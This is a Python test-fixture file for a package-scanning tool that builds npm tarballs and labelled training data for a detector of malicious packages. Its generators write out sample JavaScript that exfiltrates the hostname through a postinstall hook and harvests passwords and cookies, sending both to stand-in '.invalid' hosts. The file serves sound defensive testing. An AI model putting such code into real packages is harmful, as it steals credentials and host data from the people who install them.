"""Shared fixture builders: tarballs, artifacts, and fixture registries."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import tarfile
from pathlib import Path

import pytest

from pkgwatch._packtool import build_tarball
from pkgwatch.artifact import load_tarball


def make_manifest(name: str, version: str, scripts: dict | None = None,
                  extra: dict | None = None) -> bytes:
    doc = {"name": name, "version": version}
    if scripts:
        doc["scripts"] = scripts
    if extra:
        doc.update(extra)
    return json.dumps(doc, indent=2).encode()


def make_tgz(
    name: str = "pkg",
    version: str = "1.0.0",
    files: dict[str, bytes | str] | None = None,
    scripts: dict | None = None,
    manifest_extra: dict | None = None,
    mtime: int = 0,
    order: list[str] | None = None,
) -> bytes:
    """npm-style tarball with an auto-generated package.json."""
    content: dict[str, bytes] = {
        "package.json": make_manifest(name, version, scripts, manifest_extra)
    }
    for path, data in (files or {}).items():
        content[path] = data.encode() if isinstance(data, str) else data
    return build_tarball(content, mtime=mtime, order=order)


def make_artifact(**kwargs):
    return load_tarball(make_tgz(**kwargs))


def raw_tgz(entries: list[tuple[str, bytes | None, str]]) -> bytes:
    """Tarball with full control over entry names and types.

    Entry type is "file", "dir", "symlink", or "hardlink".
    """
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb", mtime=0) as gz:
        with tarfile.open(fileobj=gz, mode="w") as tar:
            for name, data, kind in entries:
                info = tarfile.TarInfo(name=name)
                if kind == "file":
                    info.size = len(data)
                    tar.addfile(info, io.BytesIO(data))
                elif kind == "dir":
                    info.type = tarfile.DIRTYPE
                    tar.addfile(info)
                elif kind == "symlink":
                    info.type = tarfile.SYMTYPE
                    info.linkname = data.decode()
                    tar.addfile(info)
                elif kind == "hardlink":
                    info.type = tarfile.LNKTYPE
                    info.linkname = data.decode()
                    tar.addfile(info)
    return buf.getvalue()


class FixtureRegistryBuilder:
    """Writes {name}.meta documents and {name}-{version}.tgz tarballs."""

    def __init__(self, root: Path):
        self.root = Path(root)
        self._docs: dict[str, dict] = {}

    def add_version(
        self,
        name: str,
        version: str,
        published: str,
        files: dict[str, bytes | str] | None = None,
        scripts: dict | None = None,
        manifest_extra: dict | None = None,
        tarball: bytes | None = None,
        declared_shasum: str | None = None,
    ) -> bytes:
        if tarball is None:
            tarball = make_tgz(
                name=name, version=version, files=files,
                scripts=scripts, manifest_extra=manifest_extra,
            )
        tarball_path = self.root / f"{name}-{version}.tgz"
        tarball_path.parent.mkdir(parents=True, exist_ok=True)
        tarball_path.write_bytes(tarball)

        doc = self._docs.setdefault(
            name, {"name": name, "versions": {}, "time": {}}
        )
        manifest = load_tarball(tarball).manifest.raw
        shasum = declared_shasum or hashlib.sha1(tarball).hexdigest()
        doc["versions"][version] = {
            **manifest,
            "dist": {"tarball": f"file://{tarball_path}", "shasum": shasum},
        }
        doc["time"][version] = published
        self.write(name)
        return tarball

    def write(self, name: str) -> None:
        path = self.root / f"{name}.meta"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(self._docs[name], indent=1), encoding="utf-8")


@pytest.fixture
def registry_builder(tmp_path):
    return FixtureRegistryBuilder(tmp_path / "registry")


# --- synthetic package generators -------------------------------------------
#
# Training corpora for pipeline-level tests are produced by running the real
# extractor over generated packages, so the corpus and the scanned fixtures
# share a feature distribution by construction.

_WORDS = (
    "alpha bravo charlie delta echo foxtrot golf hotel india juliet kilo "
    "lima mike november oscar papa quebec romeo sierra tango uniform victor"
).split()


def _benign_module(rng) -> dict[str, str]:
    if rng.random() < 0.3:  # one-liner micro-package
        return {"index.js": f"module.exports = {int(rng.integers(0, 99))};"}
    lines = [
        f"exports.{rng.choice(_WORDS)}{j} = function (x) {{ return x + {int(rng.integers(0, 99))}; }};"
        for j in range(int(rng.integers(1, 15)))
    ]
    files = {"index.js": "\n".join(lines) + "\n"}
    if rng.random() < 0.5:
        words = " ".join(rng.choice(_WORDS) for _ in range(int(rng.integers(5, 60))))
        files["README.md"] = f"# {rng.choice(_WORDS)}\n\n{words}\n"
    if rng.random() < 0.3:
        files["lib/util.js"] = 'var fs = require("fs");\nexports.read = ' \
                               'function (p) { return fs.readFileSync(p); };\n'
    if rng.random() < 0.2:
        files["lib/hash.js"] = 'var crypto = require("crypto");\nexports.h = ' \
                               'function (s) { return crypto.createHash("md5"); };\n'
    return files


def _grow(files: dict[str, str], rng) -> dict[str, str]:
    grown = dict(files)
    grown["index.js"] = files.get("index.js", "") + \
        f"exports.{rng.choice(_WORDS)}_extra = function () {{ return {int(rng.integers(0, 9))}; }};\n"
    return grown


def _benign_first_edge(rng) -> dict[str, str]:
    """Less common but legitimate new-package shapes that stretch the
    benign feature envelope: ultra-minimal stubs, shipped data blobs,
    bundled single-line artifacts, documentation-heavy packages."""
    style = rng.random()
    if style < 0.3:
        return {"index.js": f"module.exports={int(rng.integers(0, 9))}"}
    if style < 0.55:
        files = _benign_module(rng)
        rows = {rng.choice(_WORDS) + str(j): int(rng.integers(0, 10 ** 6))
                for j in range(int(rng.integers(5, 60)))}
        files["data.json"] = json.dumps(rows)
        return files
    if style < 0.8:  # bundled artifact: one long machine-written line
        tokens = [f"{rng.choice(_WORDS)}{int(rng.integers(0, 999))}"
                  for _ in range(int(rng.integers(50, 400)))]
        files = _benign_module(rng)
        files["dist/bundle.js"] = "var " + "=1,".join(tokens) + "=1;"
        return files
    words = " ".join(rng.choice(_WORDS) for _ in range(int(rng.integers(100, 600))))
    return {"index.js": "module.exports = {};\n", "README.md": words}


def _benign_patch(files: dict[str, str], rng) -> dict[str, str]:
    """A routine benign update: small growth, docs edit, rewrite, or cleanup."""
    style = rng.random()
    changed = dict(files)
    if style < 0.4:
        return _grow(files, rng)
    if style < 0.6:  # docs-only update
        words = " ".join(rng.choice(_WORDS) for _ in range(int(rng.integers(3, 80))))
        changed["README.md"] = f"# docs\n\n{words}\n"
        return changed
    if style < 0.8:  # substantial rewrite
        changed.update(_benign_module(rng))
        return changed
    # cleanup: drop an auxiliary file when present
    for path in list(changed):
        if path != "index.js":
            del changed[path]
            break
    return _grow(changed, rng)


def _exfil_script(rng) -> str:
    host = f"https://{rng.choice(_WORDS)}.collector.invalid/"
    module = rng.choice(["request", "https", "http"])
    return (
        f'var remote = "{host}";\n'
        'var host = require("os").hostname();\n'
        f'require("{module}").get(remote + "?h=" + host);\n'
    )


def _harvester_script(rng) -> str:
    return (
        f'var remote = "https://{rng.choice(_WORDS)}.sink.invalid/";\n'
        "for (var form of document.forms) {\n"
        '  if (form.type == "password") {\n'
        '    var data = form.value + "|" + document.cookie;\n'
        "    this.action = remote + encodeURIComponent(btoa(data));\n"
        "  }\n"
        "}\n"
    )


def build_training_vectors(n_mal: int, n_ben: int, seed: int = 0):
    """Labeled ChangeVectors extracted from generated packages."""
    import numpy as np

    from pkgwatch.features import extract_features
    from pkgwatch.vectorize import BENIGN, MALICIOUS, build_change_vector
    from pkgwatch.versioning import UpdateType

    rng = np.random.default_rng(seed)

    def features(files, scripts=None):
        artifact = load_tarball(make_tgz(files=files, scripts=scripts))
        return extract_features(artifact)

    vectors = []
    for i in range(n_ben):
        base = _benign_module(rng)
        kind = i % 3
        if kind == 0:  # new package
            first = _benign_first_edge(rng) if rng.random() < 0.4 else base
            vectors.append(build_change_vector(
                None, features(first), UpdateType.FIRST, 0.0,
                package=f"ben{i}", version="1.0.0", label=BENIGN,
            ))
        elif kind == 1:  # routine patch
            vectors.append(build_change_vector(
                features(base), features(_benign_patch(base, rng)),
                UpdateType.PATCH, float(rng.uniform(1e3, 1e6)),
                package=f"ben{i}", version="1.0.1", label=BENIGN,
            ))
        else:  # minor release
            vectors.append(build_change_vector(
                features(base), features(_benign_patch(_grow(base, rng), rng)),
                UpdateType.MINOR, float(rng.uniform(1e4, 1e7)),
                package=f"ben{i}", version="1.1.0", label=BENIGN,
            ))

    for i in range(n_mal):
        base = _benign_module(rng)
        if i % 3 == 2:  # compromised update: harvester injected into a patch
            infected = dict(base)
            infected["component.js"] = _harvester_script(rng)
            vectors.append(build_change_vector(
                features(base), features(infected),
                UpdateType.PATCH, float(rng.uniform(0, 300)),
                package=f"mal{i}", version="0.0.3", label=MALICIOUS,
            ))
        else:  # install-script exfiltrator
            payload = dict(base)
            payload["test.js"] = _exfil_script(rng)
            scripts = {"postinstall": "node test.js"}
            if i % 3 == 1:  # rushed update moments after a clean version
                vectors.append(build_change_vector(
                    features(base), features(payload, scripts),
                    UpdateType.PATCH, float(rng.uniform(0.0, 1.0)),
                    package=f"mal{i}", version="3.1.9", label=MALICIOUS,
                ))
            else:  # malicious from the first version
                vectors.append(build_change_vector(
                    None, features(payload, scripts), UpdateType.FIRST, 0.0,
                    package=f"mal{i}", version="1.0.0", label=MALICIOUS,
                ))
    return vectors
